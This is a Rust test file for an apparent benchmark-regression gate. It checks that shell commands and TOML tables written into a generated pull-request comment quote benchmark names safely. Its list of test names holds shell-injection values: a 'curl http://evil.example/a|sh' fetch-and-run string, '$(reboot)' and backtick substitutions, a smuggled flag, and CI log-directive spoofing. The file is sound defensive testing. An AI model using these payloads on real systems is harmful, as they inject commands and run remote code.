//! Commands in a comment, which a maintainer copies into a shell.

use infergate_core::case::Case;
use infergate_receipts::shell::{flag, word};
use infergate_receipts::{BuiltWith, Evidence, Outcome, Subject, Terms};
use infergate_report::inputs::Inputs;

use crate::report_formats::support::{file as page, paired};

/// The lines of its `console` blocks.
pub fn commands(comment: &str) -> Vec<&str> {
    let blocks = comment.split("\n```console\n").skip(1);
    blocks.flat_map(|block| block.split("\n```\n").next().unwrap_or_default().lines()).collect()
}

fn case_of(name: &str) -> Case {
    format!("bench:{name}").parse().expect("a name")
}

/// A paired run of a bench of this name that got slower.
pub fn bench(name: &str) -> Inputs {
    let case = case_of(name);
    let mut inputs = paired();
    let receipt = inputs.paired.as_mut().expect("a pair");
    receipt.cases.truncate(1);
    receipt.cases[0].id = case;
    receipt.base.build.commit = Some("a".repeat(40));
    receipt.head.build.commit = Some("b".repeat(40));
    let verdict = inputs.verdict.as_mut().expect("judged");
    let time = |evidence: &Evidence| matches!(evidence, Evidence::Time(_));
    let row = verdict.rows.iter_mut().find(|row| time(&row.evidence)).expect("a time");
    (row.subject, row.outcome) = (Subject::Case(case), Outcome::Regressed);
    let Evidence::Time(time) = &mut row.evidence else { unreachable!("it was found by it") };
    // Of the logarithm that the gate judges by.
    time.threshold = Some(1.15_f64.ln().exp());
    inputs
}

const NAMES: [&str; 7] = [
    "x; curl http://evil.example/a|sh && b > c < d",
    "it's a \"$(reboot)\" `reboot` $HOME",
    "--worker-build=sh",
    "*?[a-z]{1,2}~!#^",
    "back\\slash\\'",
    "```",
    "::error::x ##[error]y x\u{fe0f}y",
];

/// Each word of a command is one of ours, or one flag of ours with the whole name as its value.
#[test]
fn a_name_is_one_word_of_a_command() {
    for name in NAMES {
        let comment = page(&bench(name), "comment.md");
        let lines = commands(&comment);
        assert_eq!(lines.len(), 3, "{comment}");
        let words: Vec<Vec<String>> = lines.iter().map(|line| shlex::split(line).expect("a command")).collect();
        let (a, b) = ("a".repeat(40), "b".repeat(40));
        assert_eq!(words[0], ["git", "checkout", &b]);
        let case = Subject::from(case_of(name)).spelled();
        let gate = ["cargo", "infergate", "gate", "--against", &a, "--cases", &case, "--memory-case", "generate/p8-o3"];
        // A comma would part it: without a name the command measures all.
        assert_eq!(words[1], if name.contains(',') { &gate[..5] } else { &gate[..] }, "{name}");
        let bisect = ["cargo", "infergate", "bisect", "--good", &a, "--bad", &b, "--case", &case, "--threshold", "15%"];
        assert_eq!(words[2], bisect);
    }
}

/// Else another bench target, another package or another program is measured.
#[test]
fn commands_name_the_bench_target_and_how_it_was_built() {
    let mut inputs = bench("fib/20");
    let receipt = inputs.paired.as_mut().expect("a pair");
    for side in [&mut receipt.base, &mut receipt.head] {
        (side.engine.name, side.engine.model) = ("criterion".into(), "my bench".into());
    }
    receipt.built_with = BuiltWith {
        package: Some("my engine".into()),
        features: vec!["simd".to_owned(), "std".to_owned()],
        no_default_features: true,
        profile: Some("release-lto".into()),
    };
    let comment = page(&inputs, "comment.md");
    let words = " --bench-target 'my bench' --bench-package 'my engine' --bench-features simd --bench-features std \
                 --bench-default-features=false --bench-profile release-lto";
    for line in &commands(&comment)[1..] {
        assert!(line.contains(words), "{line}");
    }
    // One that would burst the comment is not shown, and no half of it.
    inputs.paired.as_mut().expect("a pair").built_with.features = vec!["x".repeat(2_000); 1_000];
    let comment = page(&inputs, "comment.md");
    assert!(commands(&comment).is_empty() && comment.len() < 65_536, "{} bytes", comment.len());
}

/// A bisection builds bench targets alone, and without `--server` the gate does.
#[test]
fn commands_for_servers_and_programs_measure_these() {
    for (engine, is_server) in [("server", true), ("command", false)] {
        let mut inputs = bench("fib/20");
        inputs.paired.as_mut().expect("a pair").head.engine.name = engine.into();
        let comment = page(&inputs, "comment.md");
        let lines = commands(&comment);
        assert!(lines.len() == 2 && lines[1].contains(" --server ") == is_server, "{comment}");
    }
}

/// The table of infergate.toml that a comment offers says the same name, in a block that the name does not end.
#[test]
fn a_name_is_one_value_of_a_table() {
    for name in NAMES.into_iter().chain(["\"\"\"\\"]) {
        let mut inputs = bench(name);
        inputs.paired.as_mut().expect("a pair").terms =
            Some(Terms { by_head: false, accept: Vec::new(), accepted_before: Vec::new() });
        let verdict = inputs.verdict.as_mut().expect("judged");
        verdict.exit_code = 1;
        // No table would let these pass.
        verdict.rows.retain(|row| !matches!(row.outcome, Outcome::Leak | Outcome::TargetMissed));
        let comment = page(&inputs, "comment.md");
        let (_, tables) = comment.split_once("\n```toml\n").expect("a block");
        let (tables, _) = tables.split_once("\n```\n").expect("its end");
        assert!(tables.lines().all(|line| !line.starts_with("```")), "{tables}");
        let tables: toml::Table = tables.parse().expect("TOML");
        assert_eq!(tables["accept"][0]["case"].as_str(), Some(&*Subject::from(case_of(name)).spelled()));
    }
}

/// What nobody sees, or what ends the line, is in no command.
#[test]
fn what_cannot_stand_on_a_line_is_left_out() {
    for bad in ["a\nb", "a\u{202e}b", "a\u{200b}b", "a\u{1b}[2Jb", "a\0b", &"x".repeat(64 << 10)] {
        assert_eq!((word(bad), flag("case", bad)), (None, None), "{bad:?}");
    }
    let comment = page(&bench("a\u{202e}b"), "comment.md");
    assert!(commands(&comment).iter().all(|line| !line.contains("--case")), "{comment}");
}
